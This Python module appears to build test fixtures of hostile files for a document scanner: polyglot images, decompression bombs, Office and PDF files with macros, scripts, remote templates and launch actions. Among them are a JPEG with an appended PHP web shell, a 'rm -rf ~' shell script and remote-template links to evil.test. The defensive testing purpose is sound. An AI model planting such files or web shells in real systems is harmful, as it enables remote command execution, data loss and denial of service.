"""Hostile files, each as small as it can be: two files in one, bombs, scripts, broken and locked documents."""

import io
import struct
import zipfile
import zlib

from evidence import ole_directory
from tests.evidence import files_made as made

GIF_SCRIPT = b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(document.domain)//;"
PHP_TAIL = made.JPEG + b"\xff\xd9<?php system($_GET['c']); ?>"
HTML_BEFORE_PDF = b"<html><script>alert(1)</script>\n" + made.PDF
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60
SHELL = b"#!/bin/sh\nrm -rf ~\n"
XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;&b;&b;</a>'
XSLT = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><a><script>alert(1)</script></a>'


def with_archive(content: bytes) -> bytes:
    """Shown as the one, opened as the other."""
    return content + made.zipped(("payload.exe", made.EXE))


# --- Pictures that would fill the memory --------------------------------------------------------


def png(width: int, height: int) -> bytes:
    header = b"IHDR" + struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">L", 13)
        + header
        + struct.pack(">L", zlib.crc32(header))
        + b"\0" * 40
    )


def gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\0" * 40


def jpeg(width: int, height: int) -> bytes:
    return made.JPEG[:20] + b"\xff\xc0" + struct.pack(">HBHH", 17, 8, height, width) + b"\0" * 40


def webp(width: int, height: int, form: bytes = b"VP8X") -> bytes:
    if form == b"VP8X":
        size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        body = b"\x0a\0\0\0" + b"\0" * 4 + size
    elif form == b"VP8L":
        body = b"\x0a\0\0\0/" + struct.pack("<L", (width - 1) | (height - 1) << 14)
    else:
        body = b"\x0a\0\0\0" + b"\0" * 3 + b"\x9d\x01\x2a" + struct.pack("<HH", width, height)
    return b"RIFF\x40\0\0\0WEBP" + form + body + b"\0" * 40


def tiff(width: int, height: int, *, order: str = "<") -> bytes:
    fields = struct.pack(f"{order}HHLL", 256, 4, 1, width) + struct.pack(f"{order}HHLL", 257, 4, 1, height)
    mark = b"II*\0" if order == "<" else b"MM\0*"
    return mark + struct.pack(f"{order}LH", 8, 2) + fields + struct.pack(f"{order}L", 0) + b"\0" * 300


def bmp(width: int, height: int) -> bytes:
    return b"BM" + b"\0" * 12 + struct.pack("<Lll", 40, width, -height) + b"\0" * 40


def heic(width: int, height: int) -> bytes:
    boxes = b"".join(
        b"\0\0\0\x14ispe" + struct.pack(">LLL", 0, w, h) for w, h in ((512, 512), (width, height))
    )
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x40meta" + boxes + b"\0" * 40


# --- Archives -----------------------------------------------------------------------------------


def bomb(mb: int = 300) -> bytes:
    """A Word document one part of which unpacks to ``mb`` megabytes."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(zipfile.ZipInfo("word/document.xml"), "<x/>")
        with archive.open(zipfile.ZipInfo("word/media/image1.bmp"), "w", force_zip64=False) as part:
            part._compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # type: ignore[attr-defined]
            part._zinfo.compress_type = zipfile.ZIP_DEFLATED  # type: ignore[attr-defined]
            for _ in range(mb):
                part.write(b"\0" * 1024**2)
    return memory.getvalue()


def overlapping() -> bytes:
    """A Word document whose list names the same bytes many times over."""
    content = bytearray(made.office("word/document.xml", ("word/a.xml", "<a/>" * 50)))
    end = content.rfind(b"PK\x05\x06")
    (place,) = struct.unpack_from("<L", content, end + 16)
    first = content.index(b"PK\x01\x02", place)
    (offset,) = struct.unpack_from("<L", content, first + 42)
    second = content.index(b"PK\x01\x02", first + 4)
    struct.pack_into("<L", content, second + 42, offset)
    return bytes(content)


def opendocument_with_macros() -> bytes:
    return made.zipped(
        ("mimetype", "application/vnd.oasis.opendocument.text"),
        ("content.xml", "<x/>"),
        ("Basic/Standard/Module1.xml", "<script/>"),
    )


def oddly_packed() -> bytes:
    """A Word document whose list of types is packed in a way that Office does not know, and broken at that."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("[Content_Types].xml", made.CONTENT_TYPES.format(""))
        archive.writestr("word/document.xml", "<x/>")
    content = bytearray(memory.getvalue())
    # What unpacks the first part stands behind its header, its name and four bytes more.
    content[30 + len("[Content_Types].xml") + 4] = 0xFF
    return bytes(content)


# An archive of more empty frames than a reader may have calls.
FRAMES = bytes.fromhex("502a4d1800000000") * 1100


# --- Old Office files ---------------------------------------------------------------------------


def ole(*names: str, inside: tuple[str, ...] = ()) -> bytes:
    """A compound file with these streams at the top and those ``inside`` a storage of it."""
    entries = [_entry("Root Entry", 5, child=1 if names else 0xFFFFFFFF)]
    for place, name in enumerate(names, start=1):
        last = place == len(names)
        entries.append(
            _entry(
                name,
                1 if last and inside else 2,
                right=0xFFFFFFFF if last else place + 1,
                child=len(names) + 1 if last and inside else 0xFFFFFFFF,
            )
        )
    entries += [_entry(name, 2) for name in inside]
    entries += [b"\0" * 128] * (-len(entries) % 4)
    sectors = len(entries) // 4
    header = struct.pack(
        "<8s16sHHHHHHLLLLLLLLLL",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        0,
        0,
        0,
        1,
        1,
        0,
        4096,
        0xFFFFFFFE,
        0,
        0xFFFFFFFE,
        0,
    )
    header += struct.pack("<109L", 0, *[0xFFFFFFFF] * 108)
    chain = [0xFFFFFFFD, *range(2, sectors + 1), 0xFFFFFFFE]
    table = struct.pack("<128L", *chain, *[0xFFFFFFFF] * (128 - len(chain)))
    return header + table + b"".join(entries)


def _entry(
    name: str, kind: int, *, right: int = 0xFFFFFFFF, child: int = 0xFFFFFFFF, start: int = 0, size: int = 0
) -> bytes:
    written = name.encode("utf-16-le") + b"\0\0"
    entry = written.ljust(64, b"\0") + struct.pack("<HBBLLL", len(written), kind, 1, 0xFFFFFFFF, right, child)
    return entry.ljust(116, b"\0") + struct.pack("<LQ", start, size)


def ole_stream(name: str, content: bytes) -> bytes:
    """A compound file with one stream at the top that holds this, in small sectors if it is short."""
    is_small = len(content) < 4096
    sectors = -(-len(content) // 512)
    # Sector 0 is the allocation table, 1 the directory, 2 that of the small sectors; then the bytes.
    root = _entry("Root Entry", 5, child=1, start=3 if is_small else 0xFFFFFFFE, size=len(content) * is_small)
    stream = _entry(name, 2, start=0 if is_small else 3, size=len(content))
    table = [0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE, *range(4, 3 + sectors), 0xFFFFFFFE]
    small = [*range(1, -(-len(content) // 64)), 0xFFFFFFFE] if is_small else []
    header = struct.pack(
        "<8s16s5H6x7L", ole_directory.SIGNATURE, b"", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 2, 1
    )
    header += struct.pack("<2L109L", 0xFFFFFFFE, 0, 0, *[0xFFFFFFFF] * 108)
    return b"".join(
        [
            header,
            struct.pack("<128L", *table, *[0xFFFFFFFF] * (128 - len(table))),
            (root + stream).ljust(512, b"\0"),
            struct.pack("<128L", *small, *[0xFFFFFFFF] * (128 - len(small))),
            content.ljust(sectors * 512, b"\0"),
        ]
    )


def workbook(*sheets: tuple[int, int], locked: bool = False, room: int = 0) -> bytes:
    """The stream of an Excel workbook: of each sheet the type in the list of sheets, and that in its own beginning.

    ``room`` is that of a record between the list and the sheets.
    """
    begin = _record(0x0809, struct.pack("<HHLLL", 0x0600, 5, 0, 0, 0))
    if locked:
        begin += _record(0x002F, bytes(54))
    between = _record(0x00FC, bytes(room)) + _record(0x000A)
    first = len(begin) + 12 * len(sheets) + len(between)
    each = [
        _record(0x0809, struct.pack("<HHLLL", 0x0600, inside, 0, 0, 0)) + _record(0x000A)
        for _, inside in sheets
    ]
    listed = [
        _record(0x0085, struct.pack("<LBBBB", first + sum(map(len, each[:at])), 0, kind, 0, 0))
        for at, (kind, _) in enumerate(sheets)
    ]
    return b"".join([begin, *listed, between, *each])


def _record(kind: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


TABLE, MACRO_SHEET = (0, 0x0010), (1, 0x0040)
XLS = ole_stream("Workbook", workbook(TABLE, TABLE))
XLS_MACRO_SHEET = ole_stream("Workbook", workbook(TABLE, MACRO_SHEET))
XLS_MACRO_SHEET_CALLED_TABLE = ole_stream("Workbook", workbook(TABLE, (0, 0x0040), room=8000))
XLS_VBA_OF_1995 = ole_stream("Book", workbook(TABLE, (6, 0x0010)))
XLS_LOCKED = ole_stream("Workbook", workbook(TABLE, locked=True))


def presentation(*more: bytes, room: int = 0) -> bytes:
    """The stream of a PowerPoint file: more in the list of what it holds, then a slide of so many bytes."""
    listed = _atom(0x07D0, _atom(0x03FD, bytes(52)), *more)
    return _atom(0x03E8, _atom(0x03E9, bytes(40)), listed, _atom(0x03EA)) + _atom(0x03EE, bytes(room))


def vba_info(has_macros: int) -> bytes:
    return _atom(0x03FF, _atom(0x0400, struct.pack("<LLL", 7, has_macros, 2)))


def _atom(kind: int, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack("<HHL", 0xF, kind, len(body)) + body


PPT = ole_stream("PowerPoint Document", presentation())
PPT_MACROS = ole_stream("PowerPoint Document", presentation(vba_info(1), room=9000))
PPT_EMPTY_PROJECT = ole_stream("PowerPoint Document", presentation(vba_info(0)))
PPT_OBJECT = ole_stream("PowerPoint Document", presentation() + _atom(0x1011, b"x" * 30))
PPT_LOCKED = ole_stream("PowerPoint Document", bytes(range(1, 200)))
DOC_PACKAGE = ole("WordDocument", "ObjectPool", inside=("\x01Ole10Native",))


# --- What a document of today loads -------------------------------------------------------------

RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationship(kind: str, target: str, *, mode: str = "External") -> str:
    return f'<Relationship Id="r1" Type="{TYPES}{kind}" Target="{target}" TargetMode="{mode}"/>'


def related(*relationships: str, part: str = "word/document.xml") -> bytes:
    """A document a part of which has these relationships."""
    folder, _, name = part.rpartition("/")
    return made.office(part, (f"{folder}/_rels/{name}.rels", RELATIONSHIPS.format("".join(relationships))))


DOCX_TEMPLATE = related(relationship("attachedTemplate", "https://evil.test/template.dotm"))
DOCX_OBJECT = made.office("word/document.xml", ("word/embeddings/oleObject1.bin", ole("\x01Ole10Native")))
XLSX_DDE = related(
    relationship("externalLink", "externalLinks/a.xml", mode="Internal"), part="xl/workbook.xml"
)
PPTX_FILM = related(relationship("video", "https://evil.test/film.mp4"), part="ppt/presentation.xml")
DOCX_MACROS_SPELLED = related(relationship("&#118;baProject", "any.bin", mode="Internal"))

ODF_HEAD = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink">'
)


def opendocument(*elements: str, part: str = "content.xml") -> bytes:
    """An OpenDocument text that holds these elements."""
    content = ODF_HEAD + "".join(elements) + "</office:document-content>"
    return made.zipped(("mimetype", "application/vnd.oasis.opendocument.text"), (part, content))


ODT_PICTURE = opendocument('<draw:image xlink:href="https://evil.test/seen.png"/>')
ODT_EVENT = opendocument(
    '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
)
ODT_OBJECT = made.zipped(
    ("mimetype", "application/vnd.oasis.opendocument.text"),
    ("content.xml", ODF_HEAD + "</office:document-content>"),
    ("Object 1", ole("\x01Ole10Native")),
)

RTF_OBJECT = b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
RTF_TEMPLATE = b"{\\rtf1{\\*\\template https://evil.test/template.dotm}}"


# --- PDFs ---------------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    body = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, start=1)
    )
    return b"%PDF-1.7\n" + body + b"trailer <<" + trailer + b">>\nstartxref\n9\n%%EOF\n"


def packed_objects(content: bytes, *, more: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream, in which a PDF may hide its names from a plain search."""
    packed = zlib.compress(content)
    return b"<</Type /ObjStm /N 1 /First 4 %s /Length %d>>\nstream\n%s\nendstream" % (
        more,
        len(packed),
        packed,
    )


def stream_of_nothing(blocks: int) -> bytes:
    """An object stream that unpacks to nothing, however long it is."""
    packed = b"\x78\x9c" + b"\0\0\0\xff\xff" * blocks + b"\x01\0\0\xff\xff" + b"\0\0\0\x01"
    return b"<</Type /ObjStm /N 0 /First 0 /Filter /FlateDecode>>\nstream\n%s\nendstream" % packed


PDF_SCRIPT = pdf(b"<</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>>>")
PDF_SCRIPT_ESCAPED = pdf(b"<</Type /Catalog /OpenAction <</S /J#61vaScript /JS (app.alert(1))>>>>")
PDF_SCRIPT_PACKED = pdf(packed_objects(b"1 0 <</S /JavaScript /JS (app.alert(1))>>"))
PDF_LAUNCH = pdf(b"<</S /Launch /F (cmd.exe)>>")
PDF_ATTACHED = pdf(b"<</Type /EmbeddedFile /Length 2>>\nstream\nMZ\nendstream")
PDF_ODDLY_PACKED = pdf(packed_objects(b"1 0 <</A 1>>", more=b"/Filter [/ASCIIHexDecode /FlateDecode]"))
PDF_NOT_PACKED = pdf(
    b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 3>>\nstream\nabc\nendstream"
)
PDF_LOCKED = pdf(packed_objects(b"1 0 <</A 1>>"), trailer=b"/Encrypt 5 0 R")
PDF_BOMB = pdf(packed_objects(b" " * 70 * 1024**2))
PDF_PLAIN = pdf(b"<</Type /Catalog /Title (About JavaScript)>>", packed_objects(b"1 0 <</Type /Page>>"))
PDF_CUT = PDF_PLAIN[:60]
